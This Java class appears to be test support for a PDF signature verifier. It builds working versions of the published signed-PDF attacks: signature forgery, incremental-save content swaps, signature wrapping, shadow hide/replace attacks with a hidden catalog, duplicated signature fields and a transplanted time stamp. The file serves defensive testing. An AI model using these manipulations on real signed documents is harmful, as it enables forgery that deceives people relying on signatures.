package federzug.verification;

import federzug.verification.file.FormTree;
import federzug.verification.file.ObjectPairs;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts.FontName;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;

/**
 * The attacks on signed PDFs that were published from 2018 to 2021 (pdf-insecurity.org): on signatures, shadow attacks,
 * and on certified documents; each made from a good document.
 */
final class PublishedAttacks {
    private PublishedAttacks() {}

    private static String text(byte[] file) {
        return new String(file, StandardCharsets.ISO_8859_1);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Universal signature forgery: what a signature needs is taken away, at the same length. */
    static byte[] forged(byte[] file, String pattern, String by) {
        String text = text(file);
        Matcher match = Pattern.compile(pattern).matcher(text);
        int start = -1;
        int end = -1;
        while (match.find()) {
            start = match.start();
            end = match.end();
        }
        if (start < 0 || by.length() > end - start) {
            throw new IllegalArgumentException(pattern);
        }
        String same = by + " ".repeat(end - start - by.length());
        return bytes(text.substring(0, start) + same + text.substring(end));
    }

    /** Incremental saving: another content under the number of the page's, with nothing that a reader must have. */
    static byte[] savedWithoutTrailer(byte[] file, boolean copiedSignature) {
        try (PDDocument pdf = Loader.loadPDF(file)) {
            COSBase content = pdf.getPage(0).getCOSObject().getItem(COSName.CONTENTS);
            long number = ((COSObject) content).getKey().getNumber();
            String evil = "BT /F1 20 Tf 70 740 Td (etwas anderes) Tj ET";
            String update =
                    number + " 0 obj\n<< /Length " + evil.length() + " >>\nstream\n" + evil + "\nendstream\nendobj\n";
            String signature = copiedSignature ? "9999 0 obj\n" + signatureText(file) + "\nendobj\n" : "";
            return bytes(text(file) + update + signature);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String signatureText(byte[] file) {
        String text = text(file);
        int at = text.lastIndexOf("/ByteRange");
        return text.substring(text.lastIndexOf("<<", at), text.indexOf("endobj", at));
    }

    /** Signature wrapping: the padding of /Contents makes room for objects that no signature covers. */
    static byte[] wrapped(byte[] file) {
        String text = text(file);
        int close = text.lastIndexOf("0000>");
        int open = text.lastIndexOf('<', close);
        String hex = text.substring(open + 1, close + 4);
        String needed = hex.replaceAll("(00)+$", "");
        String evil = "> /Evil (4 0 obj << /Length 0 >> endobj)";
        int room = hex.length() - needed.length() - evil.length() + 1;
        String gap = "<" + needed + evil + " ".repeat(room);
        return bytes(text.substring(0, open) + gap + text.substring(close + 5));
    }

    /** Shadow attack, prepared by whoever wrote the document: a patch hides a sentence until after the signing. */
    static byte[] withPatch() {
        try (PDDocument pdf = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage(PDRectangle.A4);
            pdf.addPage(page);
            PDFormXObject patch = new PDFormXObject(pdf);
            patch.setBBox(new PDRectangle(0, 0, 600, 30));
            try (var look = patch.getStream().createOutputStream()) {
                look.write(bytes("1 1 1 rg 0 0 600 30 re f"));
            }
            try (PDPageContentStream content = new PDPageContentStream(pdf, page)) {
                write(content, 700, "Die Stadt bewilligt 1000 Euro.");
                write(content, 650, "Die Bewilligung ist widerrufen.");
                content.saveGraphicsState();
                content.transform(org.apache.pdfbox.util.Matrix.getTranslateInstance(0, 640));
                content.drawForm(patch);
                content.restoreGraphicsState();
            }
            COSDictionary hidden = new COSDictionary();
            hidden.setItem(COSName.TYPE, COSName.CATALOG);
            hidden.setItem(COSName.PAGES, otherPages(pdf));
            pdf.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Hidden"), hidden);
            pdf.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static COSDictionary otherPages(PDDocument pdf) throws IOException {
        PDPage other = new PDPage(PDRectangle.A4);
        try (PDPageContentStream content = new PDPageContentStream(pdf, other)) {
            write(content, 700, "Die Stadt bewilligt 9000 Euro.");
        }
        COSDictionary pages = new COSDictionary();
        pages.setItem(COSName.TYPE, COSName.PAGES);
        pages.setItem(COSName.KIDS, new COSArray(List.of(other.getCOSObject())));
        pages.setInt(COSName.COUNT, 1);
        other.getCOSObject().setItem(COSName.PARENT, pages);
        return pages;
    }

    private static void write(PDPageContentStream content, float y, String text) throws IOException {
        content.beginText();
        content.setFont(new PDType1Font(FontName.HELVETICA), 12);
        content.newLineAtOffset(70, y);
        content.showText(text);
        content.endText();
    }

    /** Shadow hide: the patch is emptied. */
    static List<? extends COSBase> patchEmptied(PDDocument pdf) throws IOException {
        COSDictionary objects = pdf.getPage(0).getResources().getCOSObject().getCOSDictionary(COSName.XOBJECT);
        COSBase patch = objects.getDictionaryObject(objects.keySet().iterator().next());
        try (var look = ((org.apache.pdfbox.cos.COSStream) patch).createOutputStream()) {
            look.write(bytes("q Q"));
        }
        return List.of(patch);
    }

    /** Shadow replace: the resources get another font under the same name. */
    static List<? extends COSBase> fontReplaced(PDDocument pdf) {
        COSDictionary fonts = pdf.getPage(0).getResources().getCOSObject().getCOSDictionary(COSName.FONT);
        COSDictionary symbol = new COSDictionary();
        symbol.setItem(COSName.TYPE, COSName.FONT);
        symbol.setItem(COSName.SUBTYPE, COSName.TYPE1);
        symbol.setItem(COSName.BASE_FONT, COSName.getPDFName("Symbol"));
        fonts.keySet().forEach(name -> fonts.setItem(name, symbol));
        return List.of(
                pdf.getPage(0).getCOSObject(), pdf.getPage(0).getResources().getCOSObject(), fonts, symbol);
    }

    /** Shadow hide-and-replace: only the trailer is new and points to the hidden document. */
    static byte[] rootExchanged(byte[] file) {
        try (PDDocument pdf = Loader.loadPDF(file)) {
            COSBase hidden = pdf.getDocumentCatalog().getCOSObject().getItem(COSName.getPDFName("Hidden"));
            long number = ((COSObject) hidden).getKey().getNumber();
            String text = text(file);
            Matcher last = Pattern.compile("startxref\\s+(\\d+)").matcher(text);
            String previous = "0";
            while (last.find()) {
                previous = last.group(1);
            }
            return bytes(text + "xref\n0 0\ntrailer\n<< /Root " + number + " 0 R /Size 9999 /Prev " + previous
                    + " >>\nstartxref\n" + file.length + "\n%%EOF\n");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The same signature in a second field, so that it counts twice. */
    static List<? extends COSBase> signatureTwice(PDDocument pdf) {
        COSDictionary form = pdf.getDocumentCatalog().getCOSObject().getCOSDictionary(COSName.ACRO_FORM);
        COSArray fields = form.getCOSArray(COSName.FIELDS);
        COSDictionary signed = FormTree.of(pdf).fields().values().stream()
                .filter(field -> FormTree.signature(field) != null)
                .findFirst()
                .orElseThrow();
        COSDictionary copy = new COSDictionary();
        copy.setItem(COSName.FT, COSName.SIG);
        copy.setItem(COSName.T, new COSString("Zweite_Unterschrift"));
        copy.setItem(COSName.V, signed.getItem(COSName.V));
        fields.add(copy);
        return List.of(form, fields, copy);
    }

    /** A time stamp of another document, brought along with everything it needs but the document. */
    static byte[] stampedByAnother(byte[] file, byte[] other) {
        try (PDDocument source = Loader.loadPDF(other)) {
            COSDictionary stamp = FormTree.of(source).fields().values().stream()
                    .map(FormTree::signature)
                    .filter(signature -> signature != null && FormTree.isTimeStamp(signature))
                    .findFirst()
                    .orElseThrow();
            return Attacks.incrementally(file, pdf -> {
                COSDictionary form = pdf.getDocumentCatalog().getCOSObject().getCOSDictionary(COSName.ACRO_FORM);
                COSArray fields = form.getCOSArray(COSName.FIELDS);
                COSDictionary copy = new COSDictionary();
                stamp.forEach((key, value) -> copy.setItem(key, ObjectPairs.resolve(value)));
                COSDictionary field = new COSDictionary();
                field.setItem(COSName.FT, COSName.SIG);
                field.setItem(COSName.T, new COSString("Zeitstempel"));
                field.setItem(COSName.V, copy);
                fields.add(field);
                return List.of(form, fields, field, copy);
            });
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
